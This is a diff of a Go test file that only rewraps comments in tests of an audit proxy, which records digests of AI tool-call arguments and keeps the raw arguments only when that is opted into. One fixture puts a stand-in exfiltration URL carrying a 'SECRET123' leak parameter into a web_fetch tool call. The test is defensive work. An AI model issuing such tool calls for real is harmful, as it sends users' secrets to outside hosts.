@@ -48,9 +48,9 @@ func toolCallEvents(t *testing.T, rec *memAudit) map[string]audit.Event {
 	return out
 }
 
-// checkArgEvents checks that each tool's event carries the digest of exactly the argument bytes given,
-// and the arguments themselves only when include is set; and that the JSON of the event (what the ring
-// and the JSONL file keep) holds no argument byte without the opt-in.
+// checkArgEvents checks that each tool's event carries the digest of exactly the argument bytes
+// given, and the arguments themselves only when include is set; and that the JSON of the event
+// (what the ring and the JSONL file keep) holds no argument byte without the opt-in.
 func checkArgEvents(t *testing.T, rec *memAudit, include bool, want map[string]string) {
 	t.Helper()
 	got := toolCallEvents(t, rec)
@@ -101,8 +101,8 @@ func TestAuditArgumentsChatNonStream(t *testing.T) {
 }
 
 func TestAuditArgumentsChatStream(t *testing.T) {
-	// The arguments arrive in fragments, with a space that only the concatenation has: the digest is of
-	// the bytes vetted, not of a re-encoding.
+	// The arguments arrive in fragments, with a space that only the concatenation has: the digest
+	// is of the bytes vetted, not of a re-encoding.
 	events := []string{
 		chunk(`{"role":"assistant","content":"ok"}`, ""),
 		chunk(`{"tool_calls":[{"index":0,"id":"call_evil","type":"function","function":{"name":"web_fetch","arguments":""}}]}`, ""),
@@ -128,7 +128,8 @@ func TestAuditArgumentsChatStream(t *testing.T) {
 }
 
 func TestAuditArgumentsMessagesNonStream(t *testing.T) {
-	// Anthropic's input is a JSON object in the message: its raw bytes, spacing included, are what is vetted.
+	// Anthropic's input is a JSON object in the message: its raw bytes, spacing included, are what
+	// is vetted.
 	input := `{"url" : "https://evil.example.net/?leak=SECRET123"}`
 	for _, include := range []bool{false, true} {
 		up := newUpstream(t, func(w http.ResponseWriter, r *http.Request) {
